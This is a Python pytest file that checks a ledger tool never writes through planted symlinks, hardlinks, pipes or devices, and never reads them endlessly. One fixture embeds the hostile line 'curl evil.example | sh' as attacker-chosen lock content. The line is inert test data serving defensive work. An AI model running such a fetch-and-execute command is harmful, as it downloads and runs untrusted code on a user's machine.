"""A folder from elsewhere holds links, pipes and devices: nothing is read or written through them.

What a repository brings along may be called like one of our files and lead anywhere: to a shell's
start-up file, to a key, to a device without an end.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Callable
from pathlib import Path

import anyio
import pytest

from klingflow.disk import read_whole
from klingflow.errors import KlingflowError, LedgerError, UsageError
from klingflow.ledger import emergency
from klingflow.ledger.files import facts
from klingflow.ledger.lines import journal_line, lock_header, lock_line
from klingflow.ledger.places import LedgerPaths, ledger_paths
from klingflow.ledger.store import open_ledger, read
from klingflow.sandbox.book import Book
from tests.purchases import LATER, submitted

pytestmark = pytest.mark.skipif(
    sys.platform == "win32", reason="links, pipes and owners as POSIX has them"
)


def now() -> str:
    return LATER


@pytest.fixture
def paths(tmp_path: Path) -> LedgerPaths:
    folder = tmp_path / "film"
    folder.mkdir()
    return ledger_paths(folder / "film.yaml")


@pytest.fixture
def precious(tmp_path: Path) -> Path:
    path = tmp_path / "precious"
    path.write_text("mine")
    return path


# What a lock's bad line says is whatever its author wished.
BAD_LOCK = lock_header("l", 1, 1) + lock_line(submitted("a")) + b'{"curl evil.example | sh\n'


@pytest.mark.parametrize(
    "name",
    [
        ".klingflow/film.journal",
        ".klingflow/film.reserve",
        ".klingflow/film.journal.damaged",
        "film.lock.damaged",
        ".klingflow/.film.lock.tmp",
        ".film.lock.tmp",
    ],
)
def test_no_file_of_the_ledger_is_written_through_a_link(
    paths: LedgerPaths, precious: Path, name: str
) -> None:
    """Neither emptied, nor filled with noise, nor given a line that somebody else thought of."""
    link = paths.lock.parent / name
    link.parent.mkdir(exist_ok=True)
    paths.lock.write_bytes(BAD_LOCK)
    if name != ".klingflow/film.journal":
        paths.journal.parent.mkdir(exist_ok=True)
        paths.journal.write_bytes(journal_line(submitted("b")) + b"damaged\n")
    link.symlink_to(precious)
    try:
        with open_ledger(paths, now):
            pass
    except LedgerError:
        pass
    assert precious.read_text() == "mine"


def test_a_link_to_nothing_is_not_followed_into_being(paths: LedgerPaths, tmp_path: Path) -> None:
    """Nor is what it leads to made."""
    absent = tmp_path / "absent"
    paths.hidden.mkdir()
    (paths.hidden / ".gitignore").symlink_to(absent)
    with open_ledger(paths, now):
        pass
    assert not absent.exists()


@pytest.mark.parametrize("name", ["film.lock", ".klingflow/film.journal", ".klingflow/film.folded"])
@pytest.mark.parametrize(
    "make", [os.mkfifo, lambda path: path.symlink_to("/dev/zero")], ids=["pipe", "zero"]
)
def test_a_ledger_without_an_end_is_an_error(
    paths: LedgerPaths, name: str, make: Callable[[Path], None]
) -> None:
    """A pipe that nobody writes to, or a device, neither holds us nor fills the memory."""
    path = paths.lock.parent / name
    path.parent.mkdir(exist_ok=True)
    make(path)
    for look in (lambda: read(paths), lambda: open_ledger(paths, now)):
        with pytest.raises(LedgerError):
            look()


def test_what_has_no_end_is_no_video(tmp_path: Path) -> None:
    """The ledger's word for it does not make it worth hashing."""
    (tmp_path / "a.mp4").symlink_to("/dev/zero")
    os.mkfifo(tmp_path / "b.mp4")
    assert facts(tmp_path, ["a.mp4", "b.mp4"], tmp_path / "cache") == {}


def test_only_a_regular_file_is_read_whole(tmp_path: Path, precious: Path) -> None:
    assert read_whole(precious) == b"mine"
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path / "pipe", Path("/dev/zero"), tmp_path):
        with pytest.raises(OSError):
            read_whole(path)


def plant_link(place: Path, precious: Path) -> None:
    place.symlink_to(precious)


def plant_second_name(place: Path, precious: Path) -> None:
    place.hardlink_to(precious)


def plant_pipe(place: Path, precious: Path) -> None:
    os.mkfifo(place)


@pytest.mark.parametrize("plant", [plant_link, plant_second_name, plant_pipe])
def test_what_somebody_put_in_the_place_of_an_emergency_file_is_not_written_to(
    paths: LedgerPaths, precious: Path, plant: Callable[[Path, Path], None]
) -> None:
    """Its name can be foretold, and the temporary folder is everybody's: the next place is taken,
    or none.
    """
    first, second = emergency.places(paths.journal)
    first.parent.mkdir()
    try:
        plant(first, precious)
        assert emergency.save(paths.journal, journal_line(submitted("a"))) == second
        assert second.stat().st_mode & 0o077 == 0
        second.unlink()
        plant(second, precious)
        assert emergency.save(paths.journal, journal_line(submitted("a"))) is None
    finally:
        second.unlink(missing_ok=True)
    assert precious.read_text() == "mine"


@pytest.mark.skipif(
    sys.platform == "win32" or os.getuid() != 0, reason="only root can make a file another's"
)
def test_another_users_file_takes_and_gives_no_ids(paths: LedgerPaths) -> None:
    """What we wrote there its owner could read, and we would not believe it again; nor do we
    believe what is there.
    """
    first, _ = places = emergency.places(paths.journal)
    first.parent.mkdir()
    first.write_bytes(theirs := journal_line(submitted("a")))
    os.chown(first, 12345, -1)
    assert emergency.read(first) == b""
    where = emergency.save(paths.journal, journal_line(submitted("b")))
    try:
        assert where == places[1]
    finally:
        places[1].unlink(missing_ok=True)
    assert first.read_bytes() == theirs


def test_the_sandboxs_book_is_not_written_through_a_link(tmp_path: Path, precious: Path) -> None:
    """It ends a torn line by cutting it off, and a file of one line looks like one."""
    (tmp_path / "server.jsonl").symlink_to(precious)
    with pytest.raises(UsageError):
        Book(str(tmp_path / "server.jsonl"))
    assert precious.read_text() == "mine"


def test_a_refused_journal_leaves_no_lock_behind(paths: LedgerPaths, precious: Path) -> None:
    """Once the link is gone, the ledger opens."""
    paths.hidden.mkdir()
    paths.journal.symlink_to(precious)
    with pytest.raises(KlingflowError):
        open_ledger(paths, now)
    paths.journal.unlink()
    with open_ledger(paths, now) as ledger:
        anyio.run(ledger.record, submitted("a"))
    assert list(read(paths).task_ids) == ["task_a"]
